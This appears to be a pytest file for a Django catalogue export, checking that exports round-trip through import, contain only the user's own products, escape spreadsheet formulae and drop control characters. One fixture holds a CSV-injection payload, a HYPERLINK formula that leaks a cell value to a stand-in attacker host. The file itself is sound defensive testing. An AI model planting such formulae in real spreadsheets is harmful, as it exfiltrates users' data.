"""The catalogue export: the import's own format (export -> import changes nothing), the
user's own catalogue only, and safe to open in a spreadsheet: formulae escaped, control
characters dropped, in CSV and XLSX alike, and it still imports back unchanged."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from catalog.models import Product, StockMovement, Variation
from imports.export import catalogue_export
from imports.lifecycle import import_confirm, import_start
from imports.models import ImportMode, ImportStatus
from imports.tests.uploads import HEADER, TWO_PRODUCTS, run_import, upload

pytestmark = pytest.mark.django_db


def test_export_then_import_round_trips_without_duplicates(manufacturer_a):
    run_import(manufacturer_a, TWO_PRODUCTS)
    exported = catalogue_export(user=manufacturer_a)

    assert exported.splitlines()[0] == HEADER.strip()
    result = run_import(manufacturer_a, exported, name="export.csv")

    assert (result.created_count, result.updated_count, result.unchanged_count) == (0, 0, 3)
    assert (Product.objects.count(), Variation.objects.count()) == (2, 3)
    assert StockMovement.objects.count() == 3


def test_export_contains_only_the_users_own_catalogue(manufacturer_a, manufacturer_b):
    run_import(manufacturer_a, TWO_PRODUCTS)
    run_import(manufacturer_b, HEADER + "other,Other,,5,,A > B,true,,,,1,,\n")

    exported = catalogue_export(user=manufacturer_a)

    assert "other" not in exported and exported.count("\n") == 4


NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'


@pytest.fixture
def formulae(manufacturer_a, phones, make_product):
    product = make_product(manufacturer_a, category=phones, name=NAME, description="-2+3",
                           variations=[{"size": "@SUM(1)", "color": "+red", "sku": "=1+1", "stock": 4}])
    return product


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_export_escapes_formulae(formulae, manufacturer_a):
    [row] = csv_rows(catalogue_export(user=manufacturer_a))

    assert (row["name"], row["description"], row["size"], row["color"], row["sku"]) == (
        "'" + NAME, "'-2+3", "'@SUM(1)", "'+red", "'=1+1",
    )
    assert (row["price"], row["stock"]) == ("100.00", "4")  # numbers are left alone


def test_the_xlsx_export_has_no_formula_cells(formulae, client, staff_user):
    client.force_login(staff_user)

    response = client.get(reverse("admin:catalog_product_export_catalogue") + "?format=xlsx")

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c for c in cells if c.data_type == "f"] == []
    values = {sheet.cell(1, c.column).value: c.value for c in cells if c.row == 2}
    assert (values["name"], values["size"], values["sku"]) == ("'" + NAME, "'@SUM(1)", "'=1+1")


def test_the_export_imports_back_unchanged(formulae, manufacturer_a):
    exported = catalogue_export(user=manufacturer_a)

    product_import = import_start(actor=manufacturer_a, file=upload(exported))
    result = import_confirm(product_import=product_import, actor=manufacturer_a,
                            mode=ImportMode.ALL_OR_NOTHING)

    assert (result.status, result.created_count, result.updated_count, result.unchanged_count) == (
        ImportStatus.COMPLETED, 0, 0, 1,
    )
    variation = Variation.objects.get()
    assert (Product.objects.get().name, variation.size, variation.sku) == (NAME, "@SUM(1)", "=1+1")


def test_control_characters_in_the_database_never_break_the_staff_xlsx_export(
    client, staff_user, manufacturer_a, phones, make_product
):
    # Written before the inputs refused them (or by any path that skips the checks).
    product = make_product(manufacturer_a, category=phones, name="Bell")
    Product.objects.filter(pk=product.pk).update(name="Bell\x07 \x1b[31mred\x08", description="a\x0bb")
    client.force_login(staff_user)

    xlsx = client.get(reverse("admin:catalog_product_export_catalogue") + "?format=xlsx")
    text = client.get(reverse("admin:catalog_product_export_catalogue")).content.decode()

    assert xlsx.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    assert (sheet["B2"].value, sheet["C2"].value) == ("Bell [31mred", "ab")
    assert csv_rows(text)[0]["name"] == "Bell [31mred"
    assert Product.objects.get().name == "Bell\x07 \x1b[31mred\x08"  # the export changed nothing


def test_the_xlsx_export_imports_back_unchanged(formulae, manufacturer_a):
    from django.core.files.uploadedfile import SimpleUploadedFile

    exported = catalogue_export(user=manufacturer_a, file_format="xlsx")

    product_import = import_start(actor=manufacturer_a,
                                  file=SimpleUploadedFile("catalogue.xlsx", exported))
    result = import_confirm(product_import=product_import, actor=manufacturer_a,
                            mode=ImportMode.ALL_OR_NOTHING)

    assert (result.status, result.created_count, result.updated_count, result.unchanged_count) == (
        ImportStatus.COMPLETED, 0, 0, 1,
    ), result.errors
    assert Variation.objects.get().sku == "=1+1"
